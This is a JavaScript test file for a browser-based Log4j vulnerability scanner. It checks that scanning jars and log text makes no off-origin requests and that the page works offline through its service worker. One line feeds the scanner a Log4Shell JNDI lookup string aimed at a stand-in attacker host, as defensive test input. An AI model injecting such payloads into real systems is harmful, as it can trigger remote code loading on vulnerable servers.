// Local only: every request the page (and its workers) makes during a scan
// goes to its own origin, for its own files; and after the first visit the
// page works with the network cut, served by its service worker.
import test from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { ROOT, corpusFile, servePage } from './lib/common.mjs';

// The page's own files, as they exist on disk under web/.
function pageFiles() {
  const out = new Set(['/']);
  const walk = (dir, rel) => {
    for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
      if (e.isDirectory()) walk(path.join(dir, e.name), `${rel}${e.name}/`);
      else out.add(`/${rel}${e.name}`);
    }
  };
  walk(path.join(ROOT, 'web'), '');
  return out;
}

test('no request leaves the origin during a scan; the page works offline after one visit', async (t) => {
  const { server, port, context } = await servePage(t);
  const origin = `http://127.0.0.1:${port}`;

  // Recorded on the context: page, Web Worker and service worker requests.
  const requests = [];
  context.on('request', (r) => requests.push(r.url()));
  const served = [];
  server.on('request', (req) => served.push(req.url));

  const page = await context.newPage();
  await page.goto(`${origin}/`);
  await page.waitForSelector('#status[data-ready="true"]', { timeout: 30000 });
  // Wait for the service worker to control the page (clients.claim).
  await page.evaluate(async () => {
    await navigator.serviceWorker.ready;
    if (!navigator.serviceWorker.controller) {
      await new Promise((res) => navigator.serviceWorker.addEventListener('controllerchange', res, { once: true }));
    }
  });

  await page.setInputFiles('#file-input', [corpusFile('log4j/log4j-core-2.14.1.jar'), corpusFile('archives/palantir-wrapped_in_a_par.par')]);
  await page.waitForSelector('body[data-scan="done"]', { timeout: 60000 });
  await page.click('#tab-logs');
  await page.fill('#log-text', '${jndi:ldap://attacker.example/a}');
  await page.click('#check-text');
  await page.waitForSelector('body[data-logs="done"]');

  const own = pageFiles();
  assert.ok(requests.length > 0, 'requests were recorded');
  for (const url of requests) {
    const u = new URL(url);
    // blob: URLs (the export downloads) carry the page's origin too.
    assert.equal(u.origin, origin, `request stays on the origin: ${url}`);
    if (u.protocol !== 'blob:') assert.ok(own.has(u.pathname), `request is for one of the page's files: ${url}`);
  }
  for (const p of served) assert.ok(own.has(new URL(p, origin).pathname), `server saw only page files: ${p}`);

  // The network cut: the reload is answered from the service worker's cache,
  // and a scan still works (the wasm comes from the cache too).
  await context.setOffline(true);
  const before = served.length;
  await page.reload();
  await page.waitForSelector('#status[data-ready="true"]', { timeout: 30000 });
  await page.setInputFiles('#file-input', [corpusFile('log4j/log4j-core-2.17.1.jar')]);
  await page.waitForSelector('body[data-scan="done"]', { timeout: 60000 });
  assert.deepEqual(await page.$$eval('#findings .badge', (b) => b.map((x) => x.textContent)), ['fixed']);
  assert.equal(served.length, before, 'nothing reached the server while offline');
  await context.setOffline(false);
});
